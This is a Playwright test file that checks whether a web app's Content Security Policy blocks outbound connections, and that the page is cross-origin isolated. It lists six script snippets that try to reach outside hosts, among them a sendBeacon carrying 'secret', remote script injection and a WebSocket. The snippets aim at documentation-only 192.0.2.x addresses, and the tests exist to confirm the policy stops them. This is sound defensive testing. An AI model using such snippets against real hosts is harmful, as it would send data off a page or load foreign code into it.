import type { Page } from '@playwright/test';
import { expect, otherOrigins, test } from './support/fixtures';

/** Ways out of a page, each a piece of script that tries to reach a host. */
const ways: Record<string, (host: string) => string> = {
  fetch: (host) => `fetch('http://${host}').catch(() => 0)`,
  image: (host) => `new Image().src = 'http://${host}'`,
  script: (host) =>
    `document.head.append(Object.assign(document.createElement('script'), { src: 'http://${host}' }))`,
  frame: (host) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${host}' }))`,
  beacon: (host) => `navigator.sendBeacon('http://${host}', 'secret')`,
  socket: (host) => `new WebSocket('ws://${host}')`,
};

/** The policy's complaints, as the page hears of them. */
async function complaints(page: Page): Promise<string[]> {
  return page.evaluate('window.complaints');
}

test('the page can connect to its own origin only', async ({ page, requests, site }) => {
  await page.goto('/');
  await page.evaluate(`
    window.complaints = [];
    document.addEventListener('securitypolicyviolation', (event) => window.complaints.push(event.blockedURI));
  `);
  for (const [index, [name, way]] of Object.entries(ways).entries()) {
    await test.step(name, async () => {
      // Addresses of documentation: nobody listens there.
      const host = `192.0.2.${index + 1}`;
      await page.evaluate(`{ ${way(host)} }`);
      await expect.poll(() => complaints(page)).toContainEqual(expect.stringContaining(host));
    });
  }
  // The watch that every test is under has seen the attempts; forgive them, and nothing else.
  const tried = otherOrigins(requests, site);
  expect(tried.length).toBeGreaterThan(0);
  expect(tried.every((address) => new URL(address).hostname.startsWith('192.0.2.'))).toBe(true);
  requests.splice(0, requests.length, ...requests.filter((address) => !tried.includes(address)));
});

test('the page is cross-origin isolated, so that the model can use several threads', async ({ page }) => {
  await page.goto('/');
  expect(await page.evaluate('crossOriginIsolated')).toBe(true);
  expect(await page.evaluate('typeof SharedArrayBuffer')).toBe('function');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("default-src 'self'");
});

test('requests of workers are watched too', async ({ page, requests, site }) => {
  await page.goto('/?model=/models/tiny/manifest.json&backend=wasm');
  await expect.poll(() => requests, { timeout: 60_000 }).toContain(`${site}models/tiny/step-int8.onnx`);
});
